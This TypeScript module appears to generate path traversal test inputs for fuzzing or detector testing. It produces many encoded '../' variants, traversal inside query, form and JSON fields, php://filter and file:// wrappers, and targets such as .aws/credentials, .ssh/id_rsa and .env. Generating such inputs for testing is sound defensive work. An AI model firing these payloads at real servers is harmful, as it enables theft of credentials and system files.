import type { Random } from "../random.ts"
import { applicationFile, unixFile, windowsFile } from "./files.ts"
import { type Grammar, identifier, mixCase, oneOf } from "./grammar.ts"

/**
 * Paths that leave their directory, from RFC 3986 (dot segments, percent encoding), RFC 3629
 * (overlong forms) and the path rules of Windows and of servlet containers.
 */
export function pathTraversal(random: Random): string {
  return oneOf(random, [
    climbing,
    climbing,
    climbing,
    climbing,
    climbingRespelt,
    climbingRespelt,
    climbingInPath,
    absolute,
    wrapper,
    inField,
  ])
}

const STEPS = [
  "../",
  "../",
  "../",
  "../",
  "..\\",
  "..\\",
  "....//",
  "..../",
  "....\\\\",
  "..;/",
  "..//",
  "..\\/",
  "..%2f",
  "..%2F",
  "..%5c",
  "%2e%2e/",
  "%2e%2e%2f",
  "%2e%2e%5c",
  "..%252f",
  "%252e%252e%252f",
  "..%255c",
  "%c0%ae%c0%ae/",
  "..%c0%af",
  "%c0%ae%c0%ae%c0%af",
  "..%c1%9c",
  "%e0%80%ae%e0%80%ae/",
  "..%u2215",
  "%u002e%u002e%u2215",
  "..%00/",
  ".%2e/",
  "%2e./",
  "./../",
  "/../",
  "\\..\\",
  "..././",
  "%uff0e%uff0e/",
  "..0x2f",
  "%25c0%25ae%25c0%25ae/",
  "..%2f%2f",
  ".//../",
] as const

function climbing(random: Random): string {
  const step = random.pick(STEPS)
  const depth = random.between(1, random.pick([3, 6, 12]))
  const target = oneOf(random, TARGETS)
  const separator = step.includes("\\")
    ? "\\"
    : step.match(/%[^.]*$/)?.[0] && random.chance(0.4)
      ? "%2f"
      : "/"
  const below = separator === "/" ? target : target.replaceAll("/", separator)
  return `${prefix(random)}${step.repeat(depth)}${below}${suffix(random)}`
}

/** A dot as decoders of several faults read one: percent, overlong of 2 to 6 bytes, wide. */
const DOTS = [
  ".",
  ".",
  "%2e",
  "%2E",
  "%252e",
  "%25252e",
  "%%32%65",
  "%c0%ae",
  "%c0.",
  "%c0%2e",
  "%c0%6e",
  "%c0%fe",
  "%e0%80%ae",
  "%f0%80%80%ae",
  "%f8%80%80%80%ae",
  "%fc%80%80%80%80%ae",
  "%25c0%25ae",
  "%u002e",
  "%uff0e",
  "%ef%bc%8e",
  "%u2024",
  "0x2e",
  "\\x2e",
  "\\u002e",
  "&#46;",
  "\uff0e",
  "%00.",
  ".%00",
] as const
const SLASHES = [
  "/",
  "/",
  "\\",
  "%2f",
  "%2F",
  "%5c",
  "%5C",
  "%252f",
  "%255c",
  "%25252f",
  "%%32%66",
  "%%35%63",
  "%c0%af",
  "%c0%2f",
  "%c1%9c",
  "%c1%1c",
  "%c1%af",
  "%c0%9v",
  "%c0%qf",
  "%e0%80%af",
  "%e0%81%9c",
  "%f0%80%80%af",
  "%f8%80%80%80%af",
  "%fc%80%80%80%80%af",
  "%25c0%25af",
  "%25c1%259c",
  "%u2215",
  "%u2216",
  "%uff0f",
  "%ef%bc%8f",
  "0x2f",
  "0x5c",
  "\\x2f",
  "\\u002f",
  "&#47;",
  "//",
  "\\/",
  "/./",
  "\uff0f",
  ";/",
] as const

/** Every dot and every slash in one spelling each, to the end of the path. */
function climbingRespelt(random: Random): string {
  const [dot, slash] = [random.pick(DOTS), random.pick(SLASHES)]
  const step = `${random.pick(["", "", "", slash])}${dot.repeat(random.pick([2, 2, 2, 4]))}${slash}`
  const target = oneOf(random, TARGETS).replace(/^\//, "")
  const below = random.chance(0.7) ? target.replaceAll(/[\\/]/g, slash) : target
  const lead = random.chance(0.6) ? "" : prefix(random)
  return `${lead}${step.repeat(random.between(1, 9))}${below}${suffix(random)}`
}

/** Out of a directory that exists, as a server's own paths would continue. */
function climbingInPath(random: Random): string {
  const directories = random.many(
    random.between(1, 4),
    () =>
      `${random.pick(["static", "assets", "public", "plugins", "images", "files", "api", "v1", "css", "theme", "modules", identifier(random)])}/`,
  )
  const step = random.pick([
    "../",
    "../",
    "..%2f",
    "%2e%2e/",
    "..\\",
    "..;/",
    "..%5c",
    ".%2e/",
    "..//",
  ])
  const depth = random.between(2, 12)
  return `${random.pick(["/", "", "./"])}${directories}${step.repeat(depth)}${oneOf(random, TARGETS).replace(/^\//, "")}`
}

/** A path as the value of a field of a query, form, cookie or document. */
function inField(random: Random): string {
  const path = oneOf(random, [climbing, climbingRespelt, climbingInPath, absolute])
  const name = random.pick([
    "file",
    "path",
    "page",
    "doc",
    "template",
    "lang",
    "name",
    "filename",
    "dir",
    "img",
    "view",
    "include",
    "module",
    "download",
    "f",
    "p",
    identifier(random),
  ])
  return random.pick([
    `${name}=${path}`,
    `${name}=${path}&${identifier(random)}=${random.below(99)}`,
    `/${identifier(random)}.${random.pick(["php", "jsp", "aspx", "cgi"])}?${name}=${path}`,
    `/${identifier(random)}?${name}=${path}`,
    JSON.stringify({ [name]: path }),
    `GET ${path.startsWith("/") ? path : `/${path}`} HTTP/1.1`,
  ])
}

const TARGETS: readonly Grammar[] = [
  (r) => unixFile(r).slice(1),
  (r) => unixFile(r).slice(1),
  unixFile,
  (r) => windowsFile(r).slice(3),
  (r) => windowsFile(r).slice(3).replaceAll("\\", "/"),
  applicationFile,
  () => "",
  (r) => `${identifier(r)}.${r.pick(["php", "txt", "conf", "ini", "log", "jsp", "xml"])}`,
  (r) => `${identifier(r)}/${identifier(r)}`,
]

function prefix(random: Random): string {
  return oneOf(random, [
    () => "",
    () => "",
    () => "/",
    () => "./",
    (r) => `/${identifier(r)}/`,
    (r) =>
      `${r.pick(["images", "static", "files", "uploads", "download", "docs", "templates", "lang"])}/`,
    (r) =>
      `/${r.pick(["var/www/html", "var/www/images", "usr/share", "cgi-bin", "icons", "static"])}/`,
    (r) => `${identifier(r)}.php?${r.pick(["file", "page", "path", "doc", "include"])}=`,
    (r) => `${r.pick(["file", "page", "path", "template", "lang", "dir"])}=`,
    () => "\\",
    () => "c:\\inetpub\\",
    () => "file://",
  ])
}

function suffix(random: Random): string {
  return random.pick([
    "",
    "",
    "",
    "",
    "",
    "%00",
    "%00.jpg",
    "%00.html",
    "\u0000",
    "?",
    "#",
    "%2500",
    ";index.html",
    ".",
    "%20",
    "/.",
    "::$DATA",
    "%0a",
    "%00.png",
    "?x=1",
  ])
}

function absolute(random: Random): string {
  const path = oneOf(random, [
    unixFile,
    unixFile,
    windowsFile,
    (r) => windowsFile(r).replaceAll("\\", "/"),
  ])
  const spelled = oneOf(random, [
    () => path,
    () => path,
    () => path.replaceAll("/", "%2f"),
    () => path.replaceAll("/", "//"),
    () => path.replaceAll("/", "/./"),
    () => mixCase(random, path),
    () => `file://${path}`,
    () => `\\\\?\\${path}`,
    () => `\\\\localhost\\c$\\${path.slice(3)}`,
  ])
  return `${random.pick(["", "", "", "/", "file=", "page=", "path="])}${spelled}${suffix(random)}`
}

function wrapper(random: Random): string {
  const target = random.pick([applicationFile, unixFile])(random)
  return oneOf(random, [
    () =>
      `php://filter/${random.pick(["convert.base64-encode", "read=string.rot13", "read=convert.base64-encode", "zlib.deflate"])}/resource=${target}`,
    () => `file:///${target.replace(/^\//, "")}`,
    () => `${random.pick(["jar", "netdoc", "zip", "phar", "compress.zlib"])}:file:///${target}`,
    () => `/${target}`,
    () => `/static/..${random.pick([";", "%2f", "%5c", ""])}/${target}`,
    () => `/%5c../${target}`,
    () =>
      `${random.pick(["/.", ".", "../.", "~/.", "../../."])}${random.pick(["git/HEAD", "aws/credentials", "kube/config", "docker/config.json", "npmrc", "DS_Store", "htaccess", "env.local", "env.production", "git/index", "git/config", "env", "svn/entries", "ssh/id_rsa", "htpasswd", "bash_history"])}`,
  ])
}
